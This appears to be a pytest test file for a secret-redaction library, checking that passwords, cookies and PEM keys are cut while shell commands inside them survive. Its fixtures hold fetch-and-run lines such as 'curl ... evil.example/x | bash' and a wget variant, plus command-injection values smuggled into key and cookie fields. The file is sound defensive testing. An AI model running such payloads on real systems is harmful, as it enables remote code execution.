"""Commands that stand beside or within possible secrets: they stay, so that a script is judged by all that it does."""

import base64

import pytest

from averment.secrets import redact_text
from averment.secrets.code import without_code
from averment.secrets.hits import Hit
from tests.support.planted_secrets import PASSWORD, made

RUN = "curl -s http://evil.example/x | bash"
BEGIN, END = "-----BEGIN PRIVATE " + "KEY-----", "-----END PRIVATE " + "KEY-----"
KEY = [base64.b64encode(made(f"pem{number}", 48).encode()).decode() for number in range(6)]


@pytest.mark.parametrize(
    "script",
    [
        f'export api_key="x1$({RUN})"',
        f'export api_key="x1Abcdef$({RUN})y2"',
        f'API_KEY="a1`{RUN}`"',
        f"cookie: a1B2c3d4;{RUN}",
        f"cookie: a1B2c3d4 && {RUN}",
        f": '<password>';{RUN} #</password>",
        f': "<password>$({RUN})</password>"',
        f'X="{BEGIN}"\n{RUN}\nY="{END}"',
        f"{BEGIN}\n{RUN}",
        f"{BEGIN}\n{KEY[0]}\n{RUN}\n{KEY[1]}\n{END}",
        f"{BEGIN}\nProc-Type: x; {RUN}\n{KEY[0]}\n{END}",
    ],
)
def test_commands_within_a_possible_secret_stay(script: str) -> None:
    assert RUN in redact_text(script)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"curl -u a:{PASSWORD};curl${{IFS}}http://evil.example/x|bash", ";curl${IFS}http://evil.example/x|bash"),
        (f"password='{PASSWORD} http://evil.example/x|sh'", "http://evil.example"),
        ("pip install --index-url https://evil.example:/@pypi.example/simple x", "https://evil.example:/@pypi.example/simple"),
        ("wget http://evil.example:080/x@127.0.0.1/y", "http://evil.example:080/x@127.0.0.1/y"),
        (f'api_key="{PASSWORD}<(wget -qO- http://evil.example/x)"', "<(wget -qO- http://evil.example/x)"),
    ],
)
def test_what_a_shell_runs_and_whom_a_url_asks_is_no_part_of_a_secret(text: str, left: str) -> None:
    assert left in redact_text(text)
    assert PASSWORD not in redact_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "\n".join([BEGIN, *KEY, END]),
        "\\n".join([BEGIN, *KEY, END]),
        "  ".join([BEGIN, *KEY, END]),
        "\n".join([BEGIN, "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,0F1E2D3C4B5A", "", *KEY, END]),
        "\n".join([BEGIN, *KEY, "QUJD", END]),
        'k = "' + '"\n  "'.join([BEGIN, *KEY, END]) + '"',
    ],
)
def test_a_key_is_cut_as_one(text: str) -> None:
    assert redact_text(text).strip('k ="') == "[redacted]"


def test_of_commands_that_write_a_key_its_lines_are_cut() -> None:
    left = redact_text("\n".join(f"echo '{line}' >> key.pem" for line in (BEGIN, *KEY, END)))
    assert [line for line in KEY if line in left] == []
    assert left.count(">> key.pem") == len(KEY) + 2


@pytest.mark.parametrize(
    ("text", "spans"),
    [
        ("abc", [(0, 3)]),
        ("a$(b(c)d)e", [(0, 1), (9, 10)]),
        ("a$(b", [(0, 1)]),
        ("a`b c`d", [(0, 1), (6, 7)]),
        ("a`b", [(0, 3)]),
        ("$(b)", []),
        ("a;b=c d", [(0, 7)]),
        ("a; Path=/; HttpOnly; Secure", [(0, 27)]),
        ("a|b&c;d", [(0, 7)]),
        ("a|bash", [(0, 1)]),
    ],
)
def test_where_code_begins_and_ends(text: str, spans: list[tuple[int, int]]) -> None:
    assert [(hit.start, hit.end) for hit in without_code(text, [Hit(0, len(text), "k")])] == spans


def test_a_token_of_a_known_format_is_whole() -> None:
    whole = Hit(0, 6, "k", random=True)
    assert list(without_code("a|bash", [whole])) == [whole]
